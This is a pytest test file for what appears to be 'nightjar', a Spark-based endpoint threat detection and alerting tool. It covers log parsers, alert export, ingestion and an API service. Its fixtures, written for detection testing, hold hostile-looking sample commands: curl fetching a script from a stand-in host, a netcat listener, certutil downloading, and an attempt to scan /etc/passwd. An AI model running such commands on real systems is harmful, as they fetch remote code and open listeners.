import json
import os
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from nightjar import auth, config
from nightjar.operators import alerts as Q
from nightjar.operators.detect import detect
from nightjar.operators.episodes import Store
from nightjar.rules import packs
from nightjar.rules.builtin import CHAINS, RULES
from nightjar.service import Service
from nightjar.sinks import export
from nightjar.sources import auditd, endpoint_security, paths, sysmon
from nightjar.streaming import ingest, tail
from nightjar.streaming.service import IngestionService

AUDIT = """type=SYSCALL msg=audit(1767225600.500:7): arch=c000003e syscall=59 success=yes ppid=900 pid=901 auid=1000 uid=1000 gid=1000 comm="curl"
type=EXECVE msg=audit(1767225600.500:7): argc=3 a0="/usr/bin/curl" a1="http://x.example/a.sh" a2=-s" a3="dropped"
type=CWD msg=audit(1767225600.500:7): cwd="/home/joe"
type=PATH msg=audit(1767225600.500:7): item=0 name="/usr/bin/curl"
type=EXECVE msg=audit(1767225601.000:8): argc=2 a0="nc" a1="-l"
type=SYSCALL msg=audit(1767225602.000:9): ppid=1 pid=2 uid=0
noise
"""


def sysmon_xml(pid="0x1a2b", command="certutil -urlcache -f http://x &amp; y", event="1", drop=""):
    data = {"UtcTime": "2026-01-01 00:00:00.123", "ProcessId": pid, "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": command, "User": "CORP\\joe", "ParentImage": "C:\\Windows\\cmd.exe", "ParentProcessId": "77", "CurrentDirectory": "C:\\"}
    items = "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in data.items() if k != drop)
    return f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>{event}</EventID></System><EventData>{items}</EventData></Event>'


def es_line(**over):
    d = {"time": "2026-01-01T00:00:00.5Z", "process": {"executable": {"path": "/sbin/launchd"}, "ppid": 1, "audit_token": {"pid": 55, "euid": 0}}, "event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "do shell script"], "cwd": "/tmp"}}}
    return json.dumps(d | over)


def test_auditd(spark, tmp_path):
    (tmp_path / "audit.log").write_text(AUDIT)
    a, b = auditd.read_folder(spark, str(tmp_path)).orderBy("ts").collect()
    assert (a["process_name"], a["command_line"], a["user"], a["process_id"], a["parent_process_id"], a["working_directory"]) == ("curl", "/usr/bin/curl http://x.example/a.sh -s", "1000", 901, 900, "/home/joe")
    assert a["ts"] == datetime(2026, 1, 1, 0, 0, 0, 500_000)
    assert (b["process_name"], b["command_line"], b["user"], b["process_id"], b["parent_process_id"]) == ("nc", "nc -l", "root", 0, None)
    users = spark.createDataFrame([(1000, "joe")], "uid long, name string")
    assert auditd.read(spark, str(tmp_path / "audit.log"), users).orderBy("ts").first()["user"] == "joe"


def test_auditd_names_every_user(spark, tmp_path):
    (tmp_path / "audit.log").write_text(AUDIT.replace(" uid=1000", " uid=120000"))
    users = spark.range(1, 120_001).select(F.col("id").alias("uid"), F.concat(F.lit("u"), "id").alias("name"))
    assert auditd.read(spark, str(tmp_path / "audit.log"), users).orderBy("ts").first()["user"] == "u120000"


def test_sysmon(spark, tmp_path):
    for k, x in enumerate([sysmon_xml(), sysmon_xml("4242"), sysmon_xml("zz"), sysmon_xml(event="3"), sysmon_xml(drop="User"), sysmon_xml() + sysmon_xml(), "<Event>broken"]):
        (tmp_path / f"{k}.xml").write_text(x)
    a, b = sysmon.read(spark, str(tmp_path / "*.xml")).orderBy("process_id").collect()
    assert (b["process_id"], a["process_id"]) == (0x1A2B, 4242)
    assert (a["process_name"], a["command_line"], a["parent_process_name"], a["parent_process_id"]) == ("certutil.exe", "certutil -urlcache -f http://x & y", "cmd.exe", 77)
    assert a["ts"] == datetime(2026, 1, 1, 0, 0, 0, 123_000)
    (tmp_path / "all.xmls").write_text("<Events>" + sysmon_xml() + "\n" + sysmon_xml("5") + "</Events>")
    assert sysmon.read_stream_of_events(spark, str(tmp_path / "all.xmls")).count() == 2
    text = sysmon_xml() + " " + sysmon_xml("5") + "<Event><Sys"
    found, used = sysmon.split_buffer(text)
    assert len(found) == 2 and text[used:] == "<Event><Sys"
    with pytest.raises(ImportError, match="evtx"):
        sysmon.read_evtx(spark, str(tmp_path))


def test_endpoint_security(spark, tmp_path):
    lines = [es_line(), es_line(time=1767225600, user="joe"), es_line(event={"open": {}}), "", "{bad", es_line(time="soon"), es_line(event={"exec": {"target": {"executable": {"path": "/bin/ls/"}}}})]
    (tmp_path / "a.ndjson").write_text("\n".join(lines))
    rows = endpoint_security.read_folder(spark, str(tmp_path)).collect()
    assert len(rows) == 4
    first = next(r for r in rows if r["ts"] == datetime(2026, 1, 1, 0, 0, 0, 500_000) and r["process_name"] == "osascript")
    assert (first["command_line"], first["user"], first["process_id"], first["parent_process_id"], first["parent_process_name"], first["working_directory"]) == ("osascript -e do shell script", "root", 55, 1, "launchd", "/tmp")
    assert {r["user"] for r in rows} == {"root", "joe"} and datetime(1970, 1, 1) in {r["ts"] for r in rows}
    assert "ls" in {r["command_line"] for r in rows}


def test_paths(tmp_path):
    f = tmp_path / "a.log"
    f.write_text("x")
    assert paths.check_source(str(f), "linux", [str(tmp_path)]) == str(f.resolve())
    os.symlink("/etc/hostname", tmp_path / "b.log")
    for bad in [("", "linux"), (str(tmp_path / "none.log"), "linux"), (str(f), "windows"), (str(f), "bsd"), ("/dev/null", "linux"), (str(tmp_path / "b.log"), "linux")]:
        with pytest.raises(paths.SourceError):
            paths.check_source(*bad, allowed=[str(tmp_path)])
    with pytest.raises(paths.SourceError):
        paths.check_source(str(f), "linux", max_bytes=0)


def alerts_frame(spark):
    (d,) = [spark.createDataFrame([(1, datetime(2026, 1, 1), "linux", "/usr/bin/curl", "curl a=b|c\\d http://x.example/x.sh", "joe", 5, None, None, None, '{"hostname":"H"}', "")], "event_id long, ts timestamp, platform string, process_name string, command_line string, user string, process_id long, parent_process_name string, parent_process_id long, working_directory string, raw string, host string")]
    return detect(d, RULES)


def test_exports(spark, tmp_path):
    a = alerts_frame(spark)
    (line,) = [r["line"] for r in export.format_records(a, "cef").collect()]
    assert line.startswith("CEF:0|nightjar|nightjar|1|LNX-001|") and "cs1=curl a\\=b|c\\\\d http" in line and "cn2=70" in line and "dvchost=H" in line and "sourceProcessName" not in line
    (doc,) = [json.loads(r["line"]) for r in export.format_records(a, "JSON").collect()]
    assert doc["event"]["risk_score"] == 70 and doc["threat"]["technique"]["id"] == ["T1105", "T1059.004"] and doc["process"]["parent"]["name"] == "" and doc["@timestamp"] == "2026-01-01T00:00:00"
    with pytest.raises(ValueError):
        export.format_records(a, "xml")
    lines = export.format_records(a, "cef")
    sent = str(tmp_path / "sent")
    sink = export.SyslogSink(transport=lambda data: open(sent, "ab").write(data))
    assert sink.export(lines) == 1 and open(sent).read() == "<109>" + line
    tries = str(tmp_path / "tries")

    def post(url, body):
        with open(tries, "a") as f:
            f.write("x")
        return 500 if os.path.getsize(tries) < 3 else 204

    assert export.WebhookSink("http://h", pause=0, post=post).export(lines) == 1 and os.path.getsize(tries) == 3
    assert export.WebhookSink("http://h", pause=0, post=lambda u, b: 500).export(lines) == 0
    assert export.build_sink({"type": "file", "path": str(tmp_path / "out")}).export(lines) == 1
    with pytest.raises(ValueError):
        export.build_sink({"type": "pigeon"})
    export.write_alerts(a.withColumn("alert_id", F.lit("1")), str(tmp_path / "csv"), "csv")
    assert spark.read.csv(str(tmp_path / "csv"), header=True).columns == export.ALERT_CSV


def test_incident_export(spark):
    row = [("CHAIN-WIN-001", "n", "critical", 128, "critical", 80, "windows", "ws", datetime(2026, 1, 1), None, [("a", "k", True, "w.exe", 1, None, None), ("b", "l", False, "p.exe", 2, datetime(2026, 1, 1), 3)], [], "d")]
    df = spark.createDataFrame(row, "chain_id string, chain_name string, severity string, score int, risk_band string, confidence int, platform string, host string, first_timestamp timestamp, last_timestamp timestamp, stages array<struct<stage:string,node_key:string,phantom:boolean,process_name:string,pid:long,timestamp:timestamp,event_id:long>>, mitre_attack array<string>, description string")
    line = export.format_records(df, "cef").first()["line"]
    assert "|10|" in line and "cs2=w.exe -> p.exe cs2Label=processChain cn1=80" in line
    doc = json.loads(export.format_records(df, "json").first()["line"])
    assert "threat" not in doc and doc["event"]["end"] == "" and doc["nightjar"]["stage_count"] == 2


def test_tail_and_checkpoints(tmp_path):
    f, marks = tmp_path / "x.log", tail.CheckpointFile(str(tmp_path / "c.json"))
    f.write_text("one\ntwo\npart")
    text, c = tail.read_new(str(f))
    assert text == "one\ntwo\n" and c.offset == 8
    marks.save(c)
    with f.open("a") as g:
        g.write("ial é\n")
    text, c = tail.read_new(str(f), marks.load(str(f)))
    assert text == "partial é\n"
    assert tail.read_new(str(f), c)[0] == ""
    assert tail.hold_back("abcé", tail.Checkpoint("s", 1, 100), 2).offset == 97
    f.write_text("new\n")
    assert tail.read_new(str(f), c)[0] == "new\n"
    assert [list(x) for x in ingest.chunked(range(5), 2)] == [[0, 1], [2, 3], [4]]
    with pytest.raises(ValueError):
        list(ingest.chunked([], 0))


def test_tail_stream(spark, tmp_path):
    f = tmp_path / "x.log"
    f.write_text("a\nb\n")
    spark.dataSource.register(tail.TailSource)
    q = spark.readStream.format("tail").option("path", str(f)).load().writeStream.format("memory").queryName("tailed").start()
    try:
        q.processAllAvailable()
        with f.open("a") as g:
            g.write("c\nd")
        q.processAllAvailable()
        assert sorted(r["value"] for r in spark.table("tailed").collect()) == ["a", "b", "c"]
    finally:
        q.stop()


def test_ingestion_is_incremental(spark, tmp_path):
    f = tmp_path / "audit.log"
    f.write_text(AUDIT)
    service = IngestionService(spark, Store(spark, str(tmp_path / "store")), tail.CheckpointFile(str(tmp_path / "c.json")), RULES, CHAINS)
    first = service.ingest_file(str(f), "linux")
    assert first["events"] == 2 and first["alerts"]["new"] == 2
    assert service.ingest_file(str(f), "linux")["events"] == 0
    with f.open("a") as g:
        g.write('type=EXECVE msg=audit(1767225700.000:20): argc=2 a0="nc" a1="-l"\n')
    again = service.ingest_file(str(f), "linux")
    assert again["events"] == 1 and again["alerts"] == {"new": 0, "duplicate": 1, "suppressed": 0}


def test_stream_store_ignores_replayed_batches(spark, tmp_path):
    store = Store(spark, str(tmp_path / "s"))
    write = ingest.store_sink(store, RULES)
    batch = alerts_frame(spark).select("event_id", "ts", "platform", "process_name", "command_line", "user", "process_id", "parent_process_name", "parent_process_id", "working_directory", "raw", "host")
    write(batch, 0)
    write(batch, 0)
    assert store.read("alerts").first()["occurrence_count"] == 1
    write(batch, 1)
    assert store.read("alerts").first()["occurrence_count"] == 2


def test_service(spark, tmp_path):
    f = tmp_path / "audit.log"
    f.write_text(AUDIT)
    key, record = auth.new_key("ops", ["admin"])
    reader, read_record = auth.new_key("view", ["read"])
    s = Service(spark, Store(spark, str(tmp_path / "store")), RULES, CHAINS, auth.KeyStore.from_records([record, read_record]), [str(tmp_path)], str(tmp_path / "c.json"))
    go = lambda m, p, b=None, k=key: s.handle(m, p, b, f"Bearer {k}" if k else None)
    assert go("GET", "/api/health", k=None) == (200, {"status": "ok"})
    assert go("GET", "/api/alerts", k=None)[0] == 401 and go("POST", "/api/scan", {}, reader)[0] == 403 and go("GET", "/api/none")[0] == 404
    assert go("GET", "/api/alerts")[1]["count"] == 0
    status, out = go("POST", "/api/scan", {"platform": "linux", "source": str(f)})
    assert status == 200 and out["events_scanned"] == 2 and out["alerts"]["new"] == 2
    assert go("POST", "/api/scan", {"platform": "linux", "source": "/etc/passwd"})[0] == 400
    rows = go("GET", "/api/alerts?platform=linux")[1]["alerts"]
    assert len(rows) == 2 and go("GET", "/api/alerts?severity=odd")[0] == 400 and go("GET", "/api/alerts?limit=x")[0] == 400
    one = rows[0]["alert_id"]
    assert go("GET", f"/api/alerts/{one}")[1]["alert_id"] == one and go("GET", "/api/alerts/none")[0] == 404
    assert go("POST", f"/api/alerts/{one}/state", {"state": "resolved", "author": "me"})[0] == 200 and go("POST", f"/api/alerts/{one}/state", {"state": "odd", "author": "me"})[0] == 400
    assert go("GET", "/api/stats")[1]["total_alerts"] == 2 and go("GET", "/api/rules")[1]["count"] == 27
    assert go("GET", "/api/export?format=cef")[1]["count"] == 2 and go("GET", "/api/incidents")[0] == 200
    assert go("POST", "/api/suppressions", {"fingerprint": "f", "scope": "global", "author": "a", "reason": "r"}) == (200, {"id": 1})
    assert go("POST", "/api/ingest", {"platform": "linux", "source": str(f)})[1]["events"] == 2


def test_packs(tmp_path):
    src, key = tmp_path / "src", b"k"
    src.mkdir()
    (src / "a.json").write_text(json.dumps(RULES[0].to_dict() | {"whitelist": {}}))
    pack = packs.build_pack(src, tmp_path / "p1", "1.0", key)
    assert packs.verify_pack(pack, key).valid and not packs.verify_pack(pack, b"other").valid
    assert [r.id for r in packs.load_verified(pack, key)[0]] == [RULES[0].id]
    reg = packs.PackRegistry(tmp_path / "reg", key)
    reg.stage(pack)
    reg.activate("1.0")
    packs.build_pack(src, tmp_path / "p2", "1.1", key)
    reg.stage(tmp_path / "p2")
    reg.activate("1.1")
    assert reg.active_version == "1.1" and reg.rollback() == "1.0" and reg.active_path.name == "1.0"
    (pack / "a.json").write_text("{}")
    (pack / "b.json").write_text("{}")
    assert len(packs.verify_pack(pack, key).problems) == 2
    with pytest.raises(packs.PackError):
        reg.stage(pack)


def test_config_and_keys(tmp_path):
    p = tmp_path / "c.json"
    p.write_text(json.dumps({"api": {"port": 9000}}))
    c = config.load_config(str(p))
    assert c["api"]["port"] == 9000 and c["api"]["host"] == "127.0.0.1"
    for bad in ({"api": {"port": 0}}, {"api": {"port": "x"}}, {"api": 1}, {"logging": {"level": "LOUD"}}, {"dedup": {"window_hours": 0}}):
        p.write_text(json.dumps(bad))
        with pytest.raises(config.ConfigurationError):
            config.load_config(str(p))
    assert auth.expand(["scan"]) == {"scan", "read"}
    with pytest.raises(ValueError):
        auth.expand(["root"])


def test_timeframes():
    assert Q.parse_timeframe("2W").days == 14 and Q.parse_timeframe("1m").days == 30
    with pytest.raises(ValueError):
        Q.parse_timeframe("soon")


def test_sysmon_data_are_taken_apart_once_per_event(spark):
    """Conditions on the fields do not repeat the search for the Data elements."""
    from nightjar.sources import sysmon

    found = sysmon.events_from_xml(spark.range(3).select(F.col("id").cast("string").alias("value"))).select("ts", "process_id", "process_name")
    plan = found._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("regexp_extract_all(") <= 2  # the size of the array may be asked for on its own
